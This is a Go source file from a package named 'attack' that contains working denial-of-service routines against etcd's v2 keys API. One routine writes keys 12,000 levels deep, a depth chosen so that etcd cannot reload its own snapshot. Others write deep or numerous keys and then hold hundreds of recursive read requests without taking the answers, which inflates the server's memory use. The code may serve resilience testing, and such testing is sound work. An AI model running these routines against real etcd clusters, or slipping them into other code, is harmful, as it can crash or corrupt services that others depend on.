package attack

import (
	"context"
	"fmt"
	"strings"
)

// deepLevels is more than the levels that etcd can read back from its own snapshot: Go's
// JSON decoder accepts 10,000 nested values, and a level of keys is two of them.
const deepLevels = 12_000

// deepKey writes keys of thousands of levels.
func deepKey(ctx context.Context, c *crew, ready func()) error {
	for n := range 3 {
		target := fmt.Sprintf("/v2/keys%s/d%d%s", c.Folder, n, strings.Repeat("/a", deepLevels))
		k, err := c.dial(ctx, n, dialOptions{})
		if err != nil {
			continue
		}
		if a, err := c.newAsker(k); err == nil {
			_, _ = a.ask(&request{method: "PUT", target: target, body: "value=x", authorization: c.authorization()})
		}
		k.leave(false)
	}
	ready()
	<-ctx.Done()
	return nil
}

const (
	// answerLevels is how deep a key can be if its target has at most 4,000 bytes.
	answerLevels = 1_900
	// manyLevels and manyKeys make an answer as large where keys of that depth are refused.
	manyLevels = 90
	manyKeys   = 400
)

// deepAnswers writes deep keys, and asks for the tree above them many times. An answer names each
// key and each folder whole, and has thousands of times the bytes of the writes. It takes none of
// the answers.
func deepAnswers(ctx context.Context, c *crew, ready func()) error {
	deepest := true
	for n := range 3 {
		got, err := c.put(ctx, fmt.Sprintf("%s/d%d%s", c.Folder, n, strings.Repeat("/a", answerLevels)), "x")
		deepest = deepest && err == nil && got.status < 300
	}
	if !deepest {
		c.writeMany(ctx, c.Folder, manyLevels)
	}
	read := func(n int) *request {
		target := fmt.Sprintf("/v2/keys%s?recursive=true&waitIndex=%d", c.Folder, n+1)
		return &request{method: "GET", target: target, authorization: c.authorization()}
	}
	return c.holdDeepAnswers(ctx, read, ready)
}

// sharedLevels is how many folders are above all keys of subTrees.
const sharedLevels = 40

// subTrees writes many deep keys below a chain of folders, and asks for the tree of each of these
// folders in different ways. All trees are large, and no two requests are the same. It takes none
// of the answers.
func subTrees(ctx context.Context, c *crew, ready func()) error {
	c.writeMany(ctx, c.Folder+strings.Repeat("/a", sharedLevels), manyLevels-sharedLevels)
	read := func(n int) *request {
		query := [...]string{"", "&sorted=true", "&quorum=true", "&sorted=true&quorum=true"}[n/sharedLevels%4]
		target := fmt.Sprintf("/v2/keys%s%s?recursive=true%s", c.Folder, strings.Repeat("/a", n%sharedLevels), query)
		return &request{method: "GET", target: target, authorization: c.authorization()}
	}
	return c.holdDeepAnswers(ctx, read, ready)
}

// holdDeepAnswers sends 200 requests and takes no answer.
func (c *crew) holdDeepAnswers(ctx context.Context, read func(n int) *request, ready func()) error {
	connections, requests := 200, 1
	if c.Protocol == HTTP2 {
		connections, requests = 2, 100
	}
	return c.holdAnswers(ctx, connections, requests, read, ready)
}

// writeMany writes many keys so many levels below a folder.
func (c *crew) writeMany(ctx context.Context, folder string, levels int) {
	k, err := c.dial(ctx, 0, dialOptions{})
	if err != nil {
		return
	}
	defer k.leave(false)
	stop := context.AfterFunc(ctx, func() { _ = k.raw.Close() })
	defer stop()
	a, err := c.newAsker(k)
	for n := 0; n < manyKeys && err == nil; n++ {
		target := fmt.Sprintf("/v2/keys%s/m%d%s", folder, n, strings.Repeat("/"+long(10), levels))
		_, err = a.ask(&request{method: "PUT", target: target, body: "value=x", authorization: c.authorization()})
	}
}
